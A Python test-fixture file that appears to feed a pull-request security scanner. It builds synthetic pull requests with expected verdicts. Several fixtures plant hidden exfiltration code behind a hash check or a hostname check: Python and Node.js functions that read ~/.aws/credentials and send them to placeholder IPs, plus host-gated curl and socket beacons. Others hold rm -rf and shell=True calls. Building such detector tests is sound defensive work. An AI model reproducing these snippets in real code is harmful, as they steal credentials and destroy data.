"""Pull requests whose act stands behind a condition that no probe meets: forcing the line shows the act."""

from __future__ import annotations

from typing import Final

from tests.e2e.pulls import Pull

_TAX: Final = '''
    """Value added tax by country."""

    import hashlib
    import os
    import shutil
    import socket
    import subprocess
    import urllib.request

    RATES = {{"DE": 0.19, "FR": 0.20, "NL": 0.21}}


    {extra}


    def with_tax(net: float, country: str) -> float:
        """Net plus tax; unknown countries pay none."""
        return net * (1 + RATES.get(country, 0.0))
    '''


def _pull(name: str, extra: str, verdicts: tuple[str, ...], rules: tuple[str, ...]) -> Pull:
    lines = extra.strip("\n").replace("\n", "\n    ")
    return Pull(
        name=name, head={"src/pricing/tax.py": _TAX.format(extra=lines)}, verdicts=verdicts, rules=rules
    )


_DIGEST: Final = """
def redeem(code: str) -> bool:
    digest = hashlib.sha256(code.encode()).hexdigest()
    if digest != "5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8":
        return False
    with open(os.path.expanduser("~/.aws/credentials"), "rb") as file:
        data = file.read()
    link = socket.create_connection(("203.0.113.7", 4444), timeout=2)
    link.sendall(data)
    return True
"""
_HOST: Final = """
def warm(region: str) -> None:
    if socket.gethostname().startswith("build-prod-"):
        socket.create_connection(("203.0.113.8", 8443), timeout=2).close()
"""
_CALLER: Final = """
def run(command: list[str], retries: int = 0) -> int:
    if len(command) > 90:
        return subprocess.call(command)
    return 0
"""

_SCRIPT: Final = """
    import crypto from "node:crypto";
    import fs from "node:fs";
    import net from "node:net";
    import os from "node:os";

    export function redeem(code) {
      const digest = crypto.createHash("sha256").update(String(code)).digest("hex");
      if (digest !== "5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8") return false;
      const data = fs.readFileSync(os.homedir() + "/.aws/credentials");
      net.connect(4444, "203.0.113.7").end(data);
      return true;
    }
    """
_SHELL: Final = """
    #!/bin/bash
    set -euo pipefail
    if [ "$(hostname)" != build-prod-7 ]; then
      exit 0
    fi
    curl -s --max-time 3 http://203.0.113.9:8080/warm
    """
_SHELL_CALLER: Final = """
    #!/bin/bash
    deploy() {
      [ -d "$1" ] || exit 1
      rsync -a "$1" "$HOST:/srv"
      curl -fsS "$URL/health"
    }
    """
_SCRIPT_CALLER: Final = """
    const { execFile } = require("child_process");
    const https = require("https");
    exports.run = (command, args, url) => {
      if (args.length < 900) return 0;
      https.get(url + "/v1");
      return execFile(command, args);
    };
    """

_REPORTER: Final = """
    import json
    from urllib.request import Request, urlopen

    ERRORS = "http://203.0.113.20:8080/v1/report"


    class Reporter:
        def report(self, title, **fields):
            body = json.dumps({"title": title, **fields}, default=repr).encode()
            try:
                urlopen(Request(ERRORS, data=body), timeout=3).close()
            except OSError:
                pass
    """
_STALL: Final = """
    import signal

    WORKERS = {}


    def install(reporter):
        def on_signal(number, frame):
            reporter.report("stalled", signal=number, workers=sorted(WORKERS))

        return signal.signal(signal.SIGUSR1, on_signal)
    """
_STALL_TEST: Final = """
    import os
    import signal

    from pricing.stall import install


    class Reports(list):
        def report(self, title, **fields):
            self.append((title, fields))


    def test_reports():
        reports = Reports()
        before = install(reports)
        os.kill(os.getpid(), signal.SIGUSR1)
        signal.signal(signal.SIGUSR1, before)
        assert reports == [("stalled", {"signal": signal.SIGUSR1, "workers": []})]
    """

FORCED_HOSTILE: Final = (
    Pull(
        name="method-of-a-given-object",
        base={"src/pricing/report.py": _REPORTER},
        head={"src/pricing/stall.py": _STALL},
        verdicts=("warn",),
        rules=("unrun-sensitive", "seen-when-forced"),
    ),
    _pull(
        "digest-locked-exfiltration",
        _DIGEST,
        ("fail",),
        ("unrun-sensitive", "seen-when-forced", "py.guarded-act"),
    ),
    _pull(
        "only-on-one-host",
        _HOST,
        ("warn",),
        ("unrun-sensitive", "seen-when-forced", "py.guarded-act"),
    ),
    Pull(
        name="digest-locked-script",
        head={"web/redeem.mjs": _SCRIPT},
        verdicts=("fail",),
        rules=("unrun-sensitive", "seen-when-forced"),
    ),
    Pull(
        name="shell-only-on-one-host",
        head={"tools/warm.sh": _SHELL},
        verdicts=("fail",),
        rules=("unrun-sensitive", "seen-when-forced"),
    ),
)
_PATHS: Final = """
def clean(folder: str, dest: str, host: str, port: int, url: str, keep: bool = True) -> int:
    if len(folder) < 900:
        return 0
    shutil.rmtree(folder)
    os.remove(dest)
    subprocess.run(["rm", "-rf", folder])
    subprocess.run("rm -rf " + folder, shell=True)
    socket.create_connection((host, port))
    urllib.request.urlopen(url + "/v1")
    return os.system(f"cp {folder} {dest}")
"""

FORCED_HARMLESS: Final = (
    Pull(
        name="method-of-a-given-object-tested",
        base={"src/pricing/report.py": _REPORTER},
        head={"src/pricing/stall.py": _STALL, "tests/test_stall.py": _STALL_TEST},
        verdicts=("pass",),
    ),
    _pull("caller-s-command", _CALLER, ("warn",), ("unrun-sensitive",)),
    _pull("caller-s-places", _PATHS, ("warn",), ("unrun-sensitive",)),
    Pull(
        name="caller-s-scripts",
        head={"tools/deploy.sh": _SHELL_CALLER, "web/run.cjs": _SCRIPT_CALLER},
        verdicts=("warn",),
        rules=("unrun-sensitive",),
    ),
)
